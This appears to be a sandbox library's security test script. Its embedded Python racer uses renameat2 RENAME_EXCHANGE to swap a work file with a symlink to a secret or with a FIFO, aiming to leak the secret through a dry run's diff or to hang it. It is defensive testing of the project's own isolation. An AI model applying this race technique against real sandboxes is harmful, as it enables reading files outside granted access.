// A dry run's diff against a second sandbox that can write the real workdir: once the dry
// run's command has staged its change, the racer keeps exchanging the real file with a link
// to a secret outside every grant (renameat2 RENAME_EXCHANGE), or with a FIFO. The diff was
// made by diff(1) from paths, after a check of the real file: a win is the secret in a diff,
// or a dry run that never ends. Control: a diff(1) by path, made meanwhile, shows the secret.
// Prints one JSON line. Usage: diff-swap-case.js ROUNDS
import { execFile } from "node:child_process";
import { chmodSync, existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { Sandbox } from "../../src/index.js";

const rounds = Number(process.argv[2]);
const SYSTEM = ["/usr", "/lib", "/lib64", "/bin", "/etc"].filter((p) => existsSync(p));
const base = mkdtempSync("/tmp/sandlock-dswap-");
chmodSync(base, 0o755);
const work = join(base, "w"), outside = join(base, "outside"), ctl = join(base, "ctl"), storage = join(base, "branches");
for (const d of [work, outside, ctl]) mkdirSync(d, { mode: 0o755 });
const secret = join(outside, "secret");
writeFileSync(secret, "TOPSECRET\n", { mode: 0o600 });
writeFileSync(join(work, "f.txt"), "original\n");

const RACER = `import ctypes, os, sys, time
w, ctl, secret = sys.argv[1:4]
libc = ctypes.CDLL(None, use_errno=True)
libc.renameat2.argtypes = [ctypes.c_int, ctypes.c_char_p, ctypes.c_int, ctypes.c_char_p, ctypes.c_uint]
f, spare = (w + "/f.txt").encode(), (w + "/spare").encode()
swapped = False
swaps = 0
t0 = time.time()
def exchange():
    global swapped
    if libc.renameat2(-100, f, -100, spare, 2) == 0:
        swapped = not swapped
        return True
    return False
while time.time() - t0 < 120 and not os.path.exists(ctl + "/stop"):
    mode = "fifo" if os.path.exists(ctl + "/fifo") else "link"
    if os.path.exists(ctl + "/written"):
        if not swapped and not os.path.lexists(w + "/spare"):
            if mode == "fifo": os.mkfifo(w + "/spare")
            else: os.symlink(secret, w + "/spare")
        if exchange() and swapped: swaps += 1
    else:
        if swapped: exchange()
        if os.path.lexists(w + "/spare"): os.unlink(w + "/spare")
        time.sleep(0.001)
print("swaps", swaps)
`;
writeFileSync(join(ctl, "racer.py"), RACER, { mode: 0o644 });

const byPath = (): Promise<string> => new Promise((resolve) => execFile("diff", ["-u", join(work, "f.txt"), "/dev/null"], { timeout: 2000 }, (_e, out) => resolve(String(out))));

async function main(): Promise<object> {
  const racer = Sandbox.run({ fsReadable: [...SYSTEM, ctl], fsWritable: [work] }, ["/usr/bin/python3", join(ctl, "racer.py"), work, ctl, secret]);
  racer.catch(() => undefined);
  let wins = 0, hung = 0, diffs = 0, fileShown = 0, controlWins = 0;
  const errors: string[] = [];
  try {
    for (let r = 0; r < rounds; r++) {
      const fifo = r >= rounds / 2; // links first: a FIFO round that hangs blocks this process (diff(1) in spawnSync)
      if (fifo) writeFileSync(join(ctl, "fifo"), "");
      else rmSync(join(ctl, "fifo"), { force: true });
      const run = Sandbox.dryRun({ fsReadable: SYSTEM, fsWritable: [ctl], workdir: work, fsStorage: storage, cwd: work }, ["/bin/sh", "-c", `echo changed >> f.txt && : > ${ctl}/written && sleep 0.4`], { diff: true });
      const timeout = new Promise<"hung">((resolve) => setTimeout(() => resolve("hung"), 20_000).unref());
      // Control, while the racer runs: a diff by path.
      if (!fifo) {
        await new Promise((res) => setTimeout(res, 250));
        for (let i = 0; i < 30 && controlWins === 0; i++) if ((await byPath()).includes("TOPSECRET")) controlWins++;
      }
      const out = await Promise.race([run, timeout]);
      rmSync(join(ctl, "written"), { force: true });
      if (out === "hung") {
        hung++;
        break;
      }
      diffs++;
      if (out.diff?.includes("f.txt")) fileShown++;
      if (out.diff?.includes("TOPSECRET")) wins++;
      await new Promise((res) => setTimeout(res, 50)); // the racer puts f.txt back
    }
  } catch (e) {
    errors.push(String((e as Error).message).slice(0, 300));
  } finally {
    writeFileSync(join(ctl, "stop"), "");
  }
  const r = await racer;
  const swaps = Number(/swaps (\d+)/.exec(r.stdoutText)?.[1] ?? -1);
  if (swaps < 0) errors.push(`racer: exit ${r.exitCode} ${r.stderrText.slice(0, 300)}`);
  return { wins, hung, diffs, fileShown, swaps, controlWins, errors };
}

let out: object;
try {
  out = await main();
} catch (e) {
  out = { error: String((e as Error).stack ?? e) };
}
rmSync(base, { recursive: true, force: true });
console.log(JSON.stringify(out));
